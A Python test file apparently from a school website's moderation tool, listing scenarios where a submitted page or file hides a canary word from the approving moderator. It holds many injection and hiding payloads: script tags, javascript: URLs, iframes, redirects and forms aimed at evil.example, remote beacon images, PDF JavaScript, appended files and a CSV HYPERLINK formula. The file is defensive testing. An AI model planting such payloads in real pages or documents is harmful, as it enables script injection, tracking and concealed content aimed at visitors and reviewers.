"""Rows about what a page or file carries out of sight of whoever approves it.

Each is handed in and approved as if nobody had noticed. It holds where the canary is brought up to
the moderator, as a finding that must be answered or among what a visitor does not see at once, or
where it does not reach the site.
"""

import io
from collections.abc import Callable, Mapping

import pikepdf
from PIL import Image
from PIL.PngImagePlugin import PngInfo

from tests.attacks.scenario import AttackedSite, Group, Outcome, Scenario
from tests.attacks.ways import shown_to_the_moderator, try_all
from tests.publish.school import picture
from tests.spec_downloads import drawing, office
from tests.spec_files import pdf

Files = Callable[[AttackedSite], Mapping[str, bytes]]


def handed_in(scenario: Scenario, site: AttackedSite) -> Outcome:
    """Show it to a moderator, approve it whatever was shown, and look at the site.

    Where the moderator was shown it, the approval is an open decision and no attack.
    """
    shown = shown_to_the_moderator(site)
    if scenario.said in shown:
        return Outcome(told=shown)
    for actor in ("dsl", "head"):
        site.school.sign(*site.handed, actor=actor)
    outcome = try_all(scenario, site)
    return Outcome(through=outcome.through, told=f"{shown}\n{outcome.told}")


def _row(
    name: str,
    page: str,
    said: str,
    *,
    files: Files | None = None,
    threat: str = "T2",
    not_plain: str = "",
) -> Scenario:
    """Return a row whose page is *page* with the words for its canary and its slug put in."""

    def act(site: AttackedSite) -> None:
        text = page.replace("CANARY", site.canary).replace("SLUG", site.slug)
        site.hand(text, files(site) if files else None)

    return Scenario(
        name=name,
        threat=threat,
        act=act,
        said=said,
        group=Group.INVISIBLE,
        way=handed_in,
        not_plain=not_plain,
    )


def _front(line: str) -> str:
    return f"---\n{line}\n---\n\n# News\n\nToday is a good day at school.\n"


def body(text: str) -> str:
    """Return a page with *text* below an ordinary line."""
    return f"# News\n\nToday is a good day at school.\n\n{text}\n"


def photo_page(ending: str = "jpg") -> str:
    """Return a page with a photo that declares everything; SLUG stands for the row's own word."""
    return f"""\
---
assets:
  photos/SLUG.{ending}:
    people: []
    author: Oak School
    licence: own-work
---

# News

![Stalls on the green](../photos/SLUG.{ending})
"""


def download(ending: str) -> str:
    """Return a page with a download that declares everything."""
    return f"""\
---
assets:
  downloads/SLUG.{ending}:
    author: Oak School
    licence: own-work
---

# News

Read the [list](../downloads/SLUG.{ending}).
"""


_PHOTO = photo_page()
_VISIBLE = "nothing that a visitor could see is made of it"


def _photo(make: Callable[[str], bytes]) -> Files:
    return lambda site: {f"photos/{site.slug}.jpg": make(site.canary)}


def _download(ending: str, make: Callable[[str], bytes]) -> Files:
    return lambda site: {f"downloads/{site.slug}.{ending}": make(site.canary)}


def _jpeg(**settings: bytes) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (64, 48), "green").save(out, "JPEG", **settings)
    return out.getvalue()


def _exif(word: str) -> bytes:
    exif = Image.Exif()
    exif[0x010E] = word  # ImageDescription
    return _jpeg(exif=exif.tobytes())


def _gps(word: str) -> bytes:
    exif = Image.Exif()
    exif[0x013B] = word  # Artist
    exif.get_ifd(0x8825).update({1: "N", 2: (51.0, 30.0, 12.0), 3: "W", 4: (0.0, 7.0, 5.0)})
    return _jpeg(exif=exif.tobytes())


def _xmp(word: str) -> bytes:
    packet = (
        '<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-'
        'syntax-ns#"><rdf:Description xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>'
        f"<rdf:Alt><rdf:li>{word}</rdf:li></rdf:Alt></dc:title></rdf:Description></rdf:RDF>"
        "</x:xmpmeta>"
    )
    return _jpeg(xmp=packet.encode())


def _png_text(word: str) -> bytes:
    info = PngInfo()
    info.add_text("Comment", word)
    out = io.BytesIO()
    Image.new("RGB", (64, 48), "green").save(out, "PNG", pnginfo=info)
    return out.getvalue()


def _attached(word: str) -> bytes:
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(pdf('text = ["A list."]'))) as document:
        document.attachments["notes.txt"] = word.encode()
        document.save(out, deterministic_id=True)
    return out.getvalue()


def _scripted(word: str) -> bytes:
    return pdf(f'text = ["A list."]\njavascript = "app.alert(\'{word}\')"')


def _titled(word: str) -> bytes:
    return pdf(f'text = ["A list."]\ntitle = "{word}"')


def _office(ending: str, recipe: str) -> Files:
    return _download(ending, lambda word: office(f"a.{ending}", recipe.replace("CANARY", word)))


def _drawing(recipe: str) -> Files:
    return _download("pdf", lambda word: drawing(recipe.replace("CANARY", word)))


def _plain_photo(_: str) -> bytes:
    return picture("navy")


_SEES = "active-content"
_IN_THE_PAGE = (
    ("a comment", "<!-- CANARY -->", "shown as comment"),
    ("the title of a link", 'A [link](../index.md "CANARY").', "shown as title"),
    ("the title of a reference", 'A [link][one].\n\n[one]: ../index.md "CANARY"', "shown as title"),
    ("a query behind an address", "A [link](https://oak.example/?q=CANARY).", "shown as link"),
    ("a fragment behind an address", "A [link](../index.md#CANARY).", "shown as link"),
    ("an id in braces", "## Later {#CANARY}", "shown as attribute"),
    ("a class in braces", "Later.\n{.CANARY}", "shown as attribute"),
    ("a data attribute in braces", "Later.\n{data-note=CANARY}", _SEES),
    ("a label for screen readers", "Later.\n{aria-label=CANARY}", "shown as attribute"),
    ("an abbreviation", 'The <abbr title="CANARY">PTA</abbr>.', "shown as title"),
    ("the value of a data element", '<data value="CANARY">Later</data>', "shown as attribute"),
    ("the machine's form of a time", '<time datetime="CANARY">Later</time>', "shown as attribute"),
    ("the source of a quotation", '<q cite="https://oak.example/CANARY">Later</q>', "shown as"),
    ("an element that is hidden", "<p hidden>CANARY</p>", _SEES),
    ("a paragraph hidden in braces", "CANARY\n{hidden=hidden}", _SEES),
    ("the fallback of a ruby text", "<p><ruby>Oak<rp>CANARY</rp></ruby></p>", _SEES),
    ("an element that is transparent", '<p style="opacity:0">CANARY</p>', _SEES),
    ("an element off the screen", '<p style="position:absolute;left:-99em">CANARY</p>', _SEES),
    ("white letters by the old tag", '<font color="white">CANARY</font>', _SEES),
    ("a class of the theme that hides", "CANARY\n{.md-hidden}", _SEES),
    ("the theme's class of a transparent link", "CANARY\n{.headerlink}", _SEES),
    ("the theme's class of comments", "CANARY\n{.giscus}", _SEES),
    ("the theme's class of a tab", "CANARY\n{.tabbed-block}", _SEES),
    ("the theme's class of a way back", "CANARY\n{.footnote-backref}", _SEES),
    ("a dialog that is closed", "<dialog>CANARY</dialog>", _SEES),
    ("a template element", "<template>CANARY</template>", _SEES),
    ("a noscript element", "<noscript>CANARY</noscript>", _SEES),
    ("a hidden field of a form", '<input type="hidden" value="CANARY">', _SEES),
    ("a text area", "<textarea>CANARY</textarea>", _SEES),
    (
        "a choice that is not open",
        "<select><option>A</option><option>CANARY</option></select>",
        _SEES,
    ),
    ("a picture map", '<map name="CANARY"><area href="../index.md"></map>', _SEES),
    ("a meter", "<meter>CANARY</meter>", _SEES),
    ("a style sheet", "<style>p::after{content:'CANARY'}</style>", _SEES),
    ("a declaration of XML", "<?CANARY x?>", _SEES),
    ("an instruction to the web server", '<!--#include virtual="/CANARY" -->', _SEES),
)
_ACTS = (
    ("a script", "<script>var a = 'CANARY'</script>", _SEES),
    ("an event of an element", '<p onclick="CANARY()">Later.</p>', _SEES),
    ("an iframe", '<iframe src="https://evil.example/CANARY"></iframe>', _SEES),
    ("a frame with a page in it", '<iframe srcdoc="CANARY"></iframe>', _SEES),
    (
        "a refresh to elsewhere",
        '<meta http-equiv="refresh" content="0;url=https://evil.example/CANARY">',
        _SEES,
    ),
    ("a base address", '<base href="https://evil.example/CANARY/">', _SEES),
    ("an object", '<object data="https://evil.example/CANARY"></object>', _SEES),
    ("an embedded file", '<embed src="https://evil.example/CANARY">', _SEES),
    ("a data address of a picture", "![A hall](data:image/png;base64,CANARY)", _SEES),
    ("a data address of a page", "[A hall](data:text/html,CANARY)", _SEES),
    ("a script address", "[A hall](javascript:CANARY())", _SEES),
    ("a script address in entities", "[A hall](&#106;avascript:CANARY())", _SEES),
    ("a script address over two lines", '<a href="java\nscript:CANARY()">A hall</a>', _SEES),
    ("an address of an old program", "[A hall](vbscript:CANARY)", _SEES),
    ("a form that sends to elsewhere", '<form action="https://evil.example/CANARY"></form>', _SEES),
    (
        "a link that reports every click",
        '<a href="../index.md" ping="https://a.example/CANARY">A</a>',
        _SEES,
    ),
)
_ASKS = (
    ("a picture of another site", "![A hall](https://evil.example/CANARY.png)", _SEES),
    ("a picture without a scheme", '<img alt="A hall" src="//evil.example/CANARY.png">', _SEES),
    (
        "a set of pictures of another site",
        '<img alt="" srcset="https://evil.example/CANARY 2x">',
        _SEES,
    ),
    ("a film of another site", '<video src="https://evil.example/CANARY.mp4"></video>', _SEES),
    (
        "a background of another site",
        '<table background="https://evil.example/CANARY"></table>',
        _SEES,
    ),
    (
        "a style that asks another site",
        '<p style="background:url(//evil.example/CANARY)">A</p>',
        _SEES,
    ),
)
_FRONT = (
    ("a title", "title: CANARY"),
    ("a description", "description: CANARY"),
    ("an author", "author: CANARY"),
    ("a keyword", "tags:\n  - CANARY"),
)
_UNUSED = (
    ("a nested field", "extra:\n  note:\n    - CANARY"),
    ("a field nobody knows", "pupil: CANARY"),
    ("an address of a redirect", "redirect_to: https://CANARY.example/"),
)
_PAGES = (
    *(_row(f"{name} in the page", body(text), said) for name, text, said in _IN_THE_PAGE),
    *(_row(f"{name} in the page", body(text), said) for name, text, said in _ACTS),
    *(_row(f"{name} in the page", body(text), said, threat="T15") for name, text, said in _ASKS),
    *(
        _row(f"{name} in the front matter", _front(line), "shown as front matter")
        for name, line in _FRONT
    ),
    *(
        _row(
            f"{name} in the front matter",
            _front(line),
            "shown as front matter",
            not_plain="no template prints it; another theme might",
        )
        for name, line in _UNUSED
    ),
    _row(
        "a reference that nothing uses",
        body("[unused]: https://oak.example/CANARY"),
        "shown as link",
        not_plain=_VISIBLE,
    ),
    _row(
        "a template that the page chooses",
        "---\ntemplate: redirect.html\nlocation: https://CANARY.example/\n---\n\n# News\n",
        _SEES,
    ),
    _row(
        "an inline drawing with a script",
        body("<svg><script>CANARY()</script></svg>"),
        "which cannot be checked",
        threat="T13",
    ),
    _row(
        "an inline drawing that fetches",
        body('<svg><image href="https://evil.example/CANARY"/></svg>'),
        "which cannot be checked",
        threat="T13",
    ),
    _row(
        "alternative text",
        _PHOTO.replace("Stalls on the green", "CANARY"),
        "shown as alt",
        files=_photo(_plain_photo),
    ),
    _row(
        "the title of a picture",
        _PHOTO.replace(".jpg)", '.jpg "CANARY")'),
        "shown as title",
        files=_photo(_plain_photo),
    ),
)
_SLIDES = '[[slides]]\ntext = "Plan"\n'
_FILES = (
    _row("the description in a photo", _PHOTO, "shown as EXIF", files=_photo(_exif)),
    _row("the place in a photo", _PHOTO, "location-in-photo", files=_photo(_gps)),
    _row("the title in the packet of a photo", _PHOTO, "shown as XMP", files=_photo(_xmp)),
    _row(
        "the comment in a photo",
        _PHOTO,
        "shown as document property",
        files=_photo(lambda word: _jpeg(comment=word.encode())),
    ),
    _row(
        "words behind the end of a photo",
        _PHOTO,
        "file-type-mismatch",
        files=_photo(lambda word: picture() + word.encode()),
    ),
    _row(
        "a zip archive behind a photo",
        _PHOTO,
        "file-type-mismatch",
        files=_photo(lambda word: picture() + office("a.docx", f'paragraphs = ["{word}"]')),
    ),
    _row(
        "a page behind a photo",
        _PHOTO,
        "file-type-mismatch",
        files=_photo(lambda word: picture() + f"<html><script>{word}()</script>".encode()),
    ),
    _row(
        "text in a PNG",
        photo_page("png"),
        "shown as document property",
        files=lambda site: {f"photos/{site.slug}.png": _png_text(site.canary)},
    ),
    _row("a PNG that says it is a JPEG", _PHOTO, "file-type-mismatch", files=_photo(_png_text)),
    _row(
        "a page that says it is a photo",
        _PHOTO,
        "file-type-mismatch",
        files=_photo(lambda word: f"<html>{word}</html>".encode()),
    ),
    _row(
        "the title of a PDF",
        download("pdf"),
        "shown as document property",
        files=_download("pdf", _titled),
    ),
    _row(
        "a script in a PDF",
        download("pdf"),
        "pdf-active-content",
        files=_download("pdf", _scripted),
    ),
    _row(
        "a file in a PDF",
        download("pdf"),
        "embedded-file",
        files=_download("pdf", _attached),
    ),
    _row(
        "white letters in a PDF",
        download("pdf"),
        "hidden-data",
        files=_drawing('content = "BT /F1 12 Tf 50 500 Td 1 1 1 rg (CANARY) Tj ET"'),
    ),
    _row(
        "letters that are not drawn in a PDF",
        download("pdf"),
        "hidden-data",
        files=_drawing('content = "BT /F1 12 Tf 3 Tr 50 500 Td (CANARY) Tj ET"'),
    ),
    _row(
        "letters beside the page of a PDF",
        download("pdf"),
        "hidden-data",
        files=_drawing('content = "BT /F1 12 Tf 5000 500 Td (CANARY) Tj ET"'),
    ),
    _row(
        "a note on a PDF",
        download("pdf"),
        "tracked-changes",
        files=_drawing('note = "CANARY"'),
    ),
    _row(
        "the author of a PDF",
        download("pdf"),
        "author-in-properties",
        files=_drawing('author = "CANARY"'),
    ),
    _row(
        "a hidden column",
        download("xlsx"),
        "hidden-data",
        files=_office("xlsx", '[One]\nrows = [["Name", "CANARY"]]\nhidden_columns = [2]'),
    ),
    _row(
        "a hidden row",
        download("xlsx"),
        "hidden-data",
        files=_office("xlsx", '[One]\nrows = [["Name"], ["CANARY"]]\nhidden_rows = [2]'),
    ),
    _row(
        "a hidden sheet",
        download("xlsx"),
        "hidden-data",
        files=_office(
            "xlsx", '[One]\nrows = [["Name"]]\n[Two]\nstate = "veryHidden"\nrows = [["CANARY"]]'
        ),
    ),
    _row(
        "a hidden run in a letter",
        download("docx"),
        "hidden-data",
        files=_office("docx", 'paragraphs = [{ text = "CANARY", hidden = true }]'),
    ),
    _row(
        "a change that was not accepted",
        download("docx"),
        "tracked-changes",
        files=_office("docx", 'paragraphs = [{ text = "CANARY", removed_by = "R" }]'),
    ),
    _row(
        "a comment in a letter",
        download("docx"),
        "tracked-changes",
        files=_office("docx", 'paragraphs = ["Dear parents,"]\ncomments = ["CANARY"]'),
    ),
    _row(
        "the author of a letter",
        download("docx"),
        "author-in-properties",
        files=_office("docx", 'paragraphs = ["Dear parents,"]\nauthor = "CANARY"'),
    ),
    _row(
        "notes for the speaker",
        download("pptx"),
        "hidden-data",
        files=_office("pptx", _SLIDES + 'notes = "CANARY"'),
    ),
    _row(
        "a hidden slide",
        download("pptx"),
        "hidden-data",
        files=_office("pptx", _SLIDES + '[[slides]]\ntext = "CANARY"\nhidden = true'),
    ),
    _row(
        "words beside a slide",
        download("pptx"),
        "hidden-data",
        files=_office("pptx", '[[slides]]\ntext = "CANARY"\nleft = 99000'),
    ),
    _row(
        "a formula in a table",
        download("csv"),
        "active-content",
        files=_download(
            "csv", lambda word: f'name\n=HYPERLINK("https://{word}.example")\n'.encode()
        ),
    ),
)
ROWS: tuple[Scenario, ...] = (*_PAGES, *_FILES)
